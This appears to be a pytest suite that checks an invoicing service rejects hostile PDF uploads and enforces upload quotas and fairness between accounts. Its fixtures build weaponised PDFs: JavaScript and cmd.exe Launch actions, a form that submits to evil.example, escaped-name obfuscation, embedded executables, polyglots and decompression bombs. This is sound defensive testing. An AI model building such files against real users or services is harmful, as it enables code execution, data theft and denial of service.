"""Hostile files through the public doors (INV-6): what does things by itself, what costs others their turn, what stays behind."""

# ruff: noqa: F811  a fixture taken from another folder

import base64
import time
import zlib
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from io import BytesIO
from pathlib import Path

import httpx
import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name

from services.invoicing.domain.formats import Unreadable, detect
from tests.invoicing import documents
from tests.invoicing.conftest import EMISES, Trade, trade, world  # noqa: F401  fixtures
from tests.kit.clamd import VIRUS, clamd

SCRIPT = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
LAUNCH = Dictionary(S=Name.Launch, F="cmd.exe")
SUBMIT = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F="https://evil.example/"))
HARMLESS = Dictionary(S=Name.URI, URI="https://chorale.example/")


def _changed(change: Callable[[pikepdf.Pdf], None]) -> bytes:
    target = BytesIO()
    with pikepdf.open(BytesIO(documents.pdf())) as document:
        change(document)
        document.save(target)
    return target.getvalue()


def _annotated(**entries: object) -> bytes:
    link = {"Type": Name.Annot, "Subtype": Name.Link, "Rect": [0, 0, 100, 100]} | entries

    def annotate(document: pikepdf.Pdf) -> None:
        document.pages[0].obj.Annots = Array([document.make_indirect(Dictionary(**link))])

    return _changed(annotate)


def _opening(action: object) -> bytes:
    return _changed(lambda document: setattr(document.Root, "OpenAction", action))


def _indirect_name() -> bytes:
    def arm(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = Dictionary(S=document.make_indirect(Name.Launch), F="cmd.exe")

    return _changed(arm)


def _escaped_name() -> bytes:
    """`/J#53` is `/JS` to whoever reads it."""
    plain = _opening(Dictionary(S=Name("/Quiet"), QQ="app.alert(1)"))
    return plain.replace(b"/Quiet", b"/JavaSc#72ipt").replace(b"/QQ", b"/J#53")


def _carrying(name: str, data: bytes) -> bytes:
    return _changed(lambda document: document.attachments.__setitem__(name, data))


def _carried_by_an_annotation() -> bytes:
    def carry(document: pikepdf.Pdf) -> None:
        stream = document.make_stream(b"MZ\x90\x00" * 100)
        spec = Dictionary(Type=Name.Filespec, F="notice.pdf", EF=Dictionary(F=stream))
        note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9], FS=spec)
        document.pages[0].obj.Annots = Array([note])

    return _changed(carry)


def _forms() -> bytes:
    def add(document: pikepdf.Pdf) -> None:
        document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=document.make_stream(b"<xdp/>"))

    return _changed(add)


def _with_archive() -> bytes:
    return documents.pdf() + documents.stored_zip()


ATTACKS: dict[str, tuple[Callable[[], bytes], str]] = {
    "page /AA": (lambda: _changed(lambda d: setattr(d.pages[0].obj, "AA", Dictionary(O=SCRIPT))), "pdf_active_content"),
    "annotation": (lambda: _annotated(A=SCRIPT), "pdf_active_content"),
    "annotation /AA": (lambda: _annotated(AA=Dictionary(E=LAUNCH)), "pdf_active_content"),
    "launch": (lambda: _annotated(A=LAUNCH), "pdf_active_content"),
    "submit": (lambda: _annotated(A=SUBMIT), "pdf_active_content"),
    "next": (lambda: _opening(Dictionary(S=Name.URI, URI="x:", Next=Array([HARMLESS, SCRIPT]))), "pdf_active_content"),
    "a name elsewhere": (_indirect_name, "pdf_active_content"),
    "a name in other letters": (_escaped_name, "pdf_active_content"),
    "a form of its own": (_forms, "pdf_active_content"),
    "a program inside": (lambda: _carrying("notice.pdf", b"MZ\x90\x00" * 100), "pdf_carries_program"),
    "a script inside": (lambda: _carrying("facture.pdf.js", b"alert(1)"), "pdf_carries_program"),
    "a program on a page": (_carried_by_an_annotation, "pdf_carries_program"),
    "HTML too": (lambda: b"<html><script>alert(1)</script>\n" + documents.pdf(), "pdf_polyglot"),
    "an archive too": (_with_archive, "pdf_polyglot"),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_row_16_what_a_pdf_does_by_itself_is_refused_at_the_door_INV_6(name: str, trade: Trade) -> None:
    make, code = ATTACKS[name]
    answer = _deposit(trade.seller.http, trade, make())
    assert (answer.status_code, answer.json()["code"]) == (422, code), answer.text


@pytest.mark.parametrize(
    "make",
    [
        lambda: _annotated(A=HARMLESS),
        lambda: _opening(Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]))),
        lambda: _changed(lambda d: setattr(d.docinfo, "Title", "/JavaScript /Launch")),
        lambda: _carrying("bon.csv", b"a;b"),
    ],
)
def test_row_16_links_and_words_are_no_actions(make: Callable[[], bytes]) -> None:
    assert detect(make()).pages == 1


def test_row_8_xml_that_inflates_without_end_is_refused_before_it_is_made() -> None:
    def attach(document: pikepdf.Pdf) -> None:
        for n in range(45):
            packed = zlib.compress(b"<a>" + b" " * 50_000_000)
            document.attachments[f"{n}.xml"] = b"<a/>"
            stream = document.attachments[f"{n}.xml"].get_file().obj
            stream.write(packed, filter=Name.FlateDecode)

    data, started = _changed(attach), time.process_time()
    with pytest.raises(Unreadable) as refusal:
        detect(data)
    assert refusal.value.code == "pdf_embedded_too_large"
    assert time.process_time() - started < 5, "two gigabytes would take longer"


def _deposit(http: httpx.Client, trade: Trade, data: bytes, name: str = "facture.pdf") -> httpx.Response:
    return http.post(
        "/drafts/deposit", files={"file": (name, data)}, data={"supplier_id": trade.supplier.structure_id}
    )  # fmt: skip


@pytest.fixture(scope="module")
def scanned(trade: Trade, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Path]]:
    """invoicing with a real clamd, a small quota for each account, and files of its own."""
    folder = tmp_path_factory.mktemp("kept")
    with clamd(tmp_path_factory.mktemp("clamd")) as address:
        environment = {
            "INVOICING_CLAMAV": address, "CHORALE_FILES": f"file://{folder}", "INVOICING_FILES_BYTES_PER_DAY": "40000",
            "INVOICING_INSPECTION_SECONDS": "2", "INVOICING_INSPECTION_WAITING": "64",
        } | trade.world.jwks  # fmt: skip
        url, process = trade.world.stack.start_extra("invoicing", "api", environment)
        yield url, folder
        process.stop()


def _at(trade: Trade, url: str) -> httpx.Client:
    agent = trade.world.agent(trade.supplier, EMISES)
    return trade.world.client_of(url, dict(agent.http.headers))


def test_row_15_a_virus_is_refused_and_leaves_nothing_behind(trade: Trade, scanned: tuple[str, Path]) -> None:
    url, folder = scanned
    before = set(folder.rglob("*"))
    answer = _deposit(_at(trade, url), trade, documents.pdf() + b"\n%" + VIRUS)
    assert (answer.status_code, answer.json()["code"]) == (422, "file_infected")
    assert set(folder.rglob("*")) == before
    hidden = base64.b64encode(VIRUS)
    assert _deposit(_at(trade, url), trade, documents.pdf() + b"\n%" + hidden).status_code == 201


def test_row_15_what_one_account_may_have_kept_in_a_day_ends_also_for_parallel_uploads(
    trade: Trade, scanned: tuple[str, Path]
) -> None:
    url, folder = scanned
    http, before = _at(trade, url), sum(path.stat().st_size for path in folder.rglob("*.pdf"))
    data = documents.pdf() + b"\n%" + b"x" * 8_000
    with ThreadPoolExecutor(12) as pool:
        answers = list(pool.map(lambda _: _deposit(http, trade, data), range(12)))
    kept = [answer for answer in answers if answer.status_code == 201]
    refused = [answer for answer in answers if answer.status_code == 429]
    assert len(kept) == 40_000 // len(data)
    assert len(kept) + len(refused) == 12
    assert {answer.json()["code"] for answer in refused} == {"quota_atteint"}
    assert all(0 < int(answer.headers["retry-after"]) <= 86_401 for answer in refused)
    assert sum(path.stat().st_size for path in folder.rglob("*.pdf")) - before == len(kept) * len(data)
    assert _deposit(_at(trade, url), trade, data).status_code == 201, "another account has its own"


def test_row_8_slow_files_of_one_account_hold_up_nobody_else(trade: Trade, scanned: tuple[str, Path]) -> None:
    url, _ = scanned
    slow, attacker = documents.bomb(4096), _at(trade, url)
    attacker.timeout = 120
    with ThreadPoolExecutor(3) as pool:
        attack = [pool.submit(_deposit, attacker, trade, slow) for _ in range(3)]
        time.sleep(0.5)
        answer = _deposit(_at(trade, url), trade, documents.pdf())
        assert answer.status_code == 201, answer.text
        assert not all(one.done() for one in attack), "it did not wait for the attack's end"
        assert {one.result().status_code for one in attack} <= {422, 503}
